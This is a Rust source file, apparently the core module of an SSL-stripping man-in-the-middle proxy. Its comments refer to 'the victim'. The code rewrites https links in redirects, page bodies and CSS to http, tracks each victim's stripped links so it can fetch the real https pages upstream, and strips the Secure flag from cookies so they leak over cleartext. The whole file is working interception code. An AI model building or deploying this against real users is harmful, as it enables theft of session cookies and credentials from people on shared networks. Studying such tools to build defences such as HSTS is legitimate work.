//! Request upgrading and response stripping
//!
//! The rewriter is the heart of the proxy. On the way up it restores a
//! previously stripped request target to its https original; on the way
//! down it downgrades every https reference in the response (Location
//! header, response body, css `url()` forms), desecures cookies, and
//! records each rewrite in the [`LinkMap`] so the illusion holds on the
//! victim's next request.

use crate::cache::{LinkKey, LinkMap};
use crate::error::Result;
use crate::headers::{filter_headers, IGNORED_REQUEST_HEADERS};
use crate::normalize::{client_id, normalize_url};
use crate::request::ProxyRequest;
use crate::response::ProxyResponse;
use bytes::Bytes;
use flate2::read::MultiGzDecoder;
use flate2::write::GzEncoder;
use flate2::Compression;
use http::header::{HeaderValue, CONTENT_ENCODING, CONTENT_TYPE, LOCATION, SET_COOKIE};
use once_cell::sync::Lazy;
use regex::bytes::Regex;
use std::io::{Read, Write};
use std::sync::Arc;

/// https urls inside response bodies. The character class is all ASCII,
/// so matching over raw bytes is safe for UTF-8 and ASCII-superset
/// encodings.
static HTTPS_URL: Lazy<Regex> =
  Lazy::new(|| Regex::new(r"https://[a-zA-Z0-9_:#@%/;$()~_?+\-=.&]*").expect("https url pattern"));

/// `url(...)` references in css bodies, inner value captured without
/// the optional quotes.
static CSS_URL: Lazy<Regex> = Lazy::new(|| {
  Regex::new(r#"url\(['"]?([a-zA-Z0-9_:#@%/;$~_?+\-=.&]*)['"]?\)"#).expect("css url pattern")
});

/// Rewrites requests and responses against a shared [`LinkMap`].
#[derive(Clone, Debug)]
pub struct Rewriter {
  links: Arc<LinkMap>,
}

impl Rewriter {
  /// Create a rewriter over the given link map.
  pub fn new(links: Arc<LinkMap>) -> Self {
    Self { links }
  }

  /// Prepare a victim request for upstream dispatch.
  ///
  /// If the link map holds an original https url for this client and
  /// target, the target is replaced with it (resolved against the
  /// current target). Deny-listed caching headers are dropped so the
  /// origin serves content the response rewriter can inspect.
  pub async fn upgrade_request(&self, request: &mut ProxyRequest) -> Result<()> {
    let normalized = normalize_url(request.target.as_str())?;
    let key = LinkKey::new(client_id(&request.peer), normalized);
    if let Some(original) = self.links.lookup(&key).await {
      request.target = request.target.join(&original)?;
    }
    request.headers = filter_headers(&request.headers, &IGNORED_REQUEST_HEADERS);
    Ok(())
  }

  /// Downgrade every https reference in the response.
  ///
  /// `request` must be the upstream request as dispatched (after
  /// [`upgrade_request`](Self::upgrade_request)); the css pass resolves
  /// relative references against its scheme, host and path.
  pub async fn strip_response(
    &self,
    request: &ProxyRequest,
    response: &mut ProxyResponse,
  ) -> Result<()> {
    let client = client_id(&request.peer).to_owned();

    self.strip_location(&client, response).await?;
    desecure_cookies(&mut response.headers);

    let css = is_css(response);
    let encoding = response
      .headers
      .get(CONTENT_ENCODING)
      .map(|v| v.as_bytes().to_vec());
    match encoding.as_deref() {
      None => {
        let body = self
          .strip_body_passes(&client, request, response.body.to_vec(), css)
          .await;
        response.body = Bytes::from(body);
      }
      Some(b"gzip") => {
        let body = gzip_decode(&response.body)?;
        let body = self.strip_body_passes(&client, request, body, css).await;
        response.body = Bytes::from(gzip_encode(&body)?);
      }
      // other encodings pass through unrewritten; any https
      // references inside them leak
      Some(_) => {}
    }
    Ok(())
  }

  async fn strip_body_passes(
    &self,
    client: &str,
    request: &ProxyRequest,
    body: Vec<u8>,
    css: bool,
  ) -> Vec<u8> {
    let body = self.strip_body(client, body).await;
    if css {
      self.strip_css(client, request, body).await
    } else {
      body
    }
  }

  /// Downgrade the `Location` header and seed the link map with the
  /// original, so the victim's follow-up lands back on https upstream.
  async fn strip_location(&self, client: &str, response: &mut ProxyResponse) -> Result<()> {
    let location = match response.headers.get(LOCATION).and_then(|v| v.to_str().ok()) {
      Some(location) if location.starts_with("https") => location.to_owned(),
      _ => return Ok(()),
    };
    let stripped = normalize_url(&format!("http{}", &location[5..]))?;
    self
      .links
      .store(LinkKey::new(client, stripped.clone()), location)
      .await;
    response
      .headers
      .insert(LOCATION, HeaderValue::from_str(&stripped)?);
    Ok(())
  }

  /// Replace every https url in the body with its stripped form,
  /// recording the original. A url that fails to normalize after the
  /// scheme swap is left untouched.
  async fn strip_body(&self, client: &str, body: Vec<u8>) -> Vec<u8> {
    let mut stripped_body = Vec::with_capacity(body.len());
    let mut seeds = Vec::new();
    let mut last = 0;
    for found in HTTPS_URL.find_iter(&body) {
      stripped_body.extend_from_slice(&body[last..found.start()]);
      last = found.end();
      let original = String::from_utf8_lossy(found.as_bytes()).into_owned();
      match normalize_url(&format!("http://{}", &original[8..])) {
        Ok(stripped) => {
          seeds.push((stripped.clone(), original));
          stripped_body.extend_from_slice(stripped.as_bytes());
        }
        Err(err) => {
          tracing::warn!("could not normalize url {}: {}", original, err);
          stripped_body.extend_from_slice(found.as_bytes());
        }
      }
    }
    stripped_body.extend_from_slice(&body[last..]);
    for (stripped, original) in seeds {
      self
        .links
        .store(LinkKey::new(client, stripped), original)
        .await;
    }
    stripped_body
  }

  /// Second pass for css bodies: resolve `url(...)` references against
  /// the request url, downgrade the https ones, and emit the result in
  /// `url('...')` form. External http references and base64 data uris
  /// are left verbatim.
  async fn strip_css(&self, client: &str, request: &ProxyRequest, body: Vec<u8>) -> Vec<u8> {
    let scheme = request.target.scheme();
    let host = match (request.target.host_str(), request.target.port()) {
      (Some(host), Some(port)) => format!("{host}:{port}"),
      (Some(host), None) => host.to_owned(),
      (None, _) => String::new(),
    };
    let path = request.target.path();

    let mut stripped_body = Vec::with_capacity(body.len());
    let mut seeds = Vec::new();
    let mut last = 0;
    for caps in CSS_URL.captures_iter(&body) {
      let (Some(found), Some(inner)) = (caps.get(0), caps.get(1)) else {
        continue;
      };
      stripped_body.extend_from_slice(&body[last..found.start()]);
      last = found.end();

      let matched = String::from_utf8_lossy(found.as_bytes());
      let reference = String::from_utf8_lossy(inner.as_bytes());
      if reference.starts_with("http") || matched.contains("base64") {
        stripped_body.extend_from_slice(found.as_bytes());
        continue;
      }

      let absolute = if reference.starts_with('/') {
        format!("{scheme}://{host}{reference}")
      } else {
        format!("{scheme}://{host}{path}/{reference}")
      };
      if let Some(rest) = absolute.strip_prefix("https") {
        let stripped = format!("http{rest}");
        seeds.push((stripped.clone(), absolute));
        stripped_body.extend_from_slice(format!("url('{stripped}')").as_bytes());
      } else {
        stripped_body.extend_from_slice(format!("url('{absolute}')").as_bytes());
      }
    }
    stripped_body.extend_from_slice(&body[last..]);
    for (stripped, original) in seeds {
      self
        .links
        .store(LinkKey::new(client, stripped), original)
        .await;
    }
    stripped_body
  }
}

fn is_css(response: &ProxyResponse) -> bool {
  response
    .headers
    .get(CONTENT_TYPE)
    .and_then(|v| v.to_str().ok())
    .is_some_and(|content_type| content_type.contains("text/css"))
}

/// Splice the LAST occurrence of the literal `Secure` out of every
/// `Set-Cookie` value, so the victim's browser keeps sending the cookie
/// over the cleartext leg. Surrounding punctuation is not cleaned up.
fn desecure_cookies(headers: &mut http::HeaderMap) {
  if let http::header::Entry::Occupied(mut entry) = headers.entry(SET_COOKIE) {
    for value in entry.iter_mut() {
      if let Some(desecured) = excise_secure(value) {
        *value = desecured;
      }
    }
  }
}

fn excise_secure(value: &HeaderValue) -> Option<HeaderValue> {
  let raw = value.as_bytes();
  let at = raw.windows(6).rposition(|window| window == b"Secure")?;
  let mut spliced = Vec::with_capacity(raw.len() - 6);
  spliced.extend_from_slice(&raw[..at]);
  spliced.extend_from_slice(&raw[at + 6..]);
  HeaderValue::from_bytes(&spliced).ok()
}

fn gzip_decode(body: &[u8]) -> Result<Vec<u8>> {
  let mut decoded = Vec::new();
  let mut decoder = MultiGzDecoder::new(body);
  decoder.read_to_end(&mut decoded)?;
  Ok(decoded)
}

fn gzip_encode(body: &[u8]) -> Result<Vec<u8>> {
  let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
  encoder.write_all(body)?;
  Ok(encoder.finish()?)
}
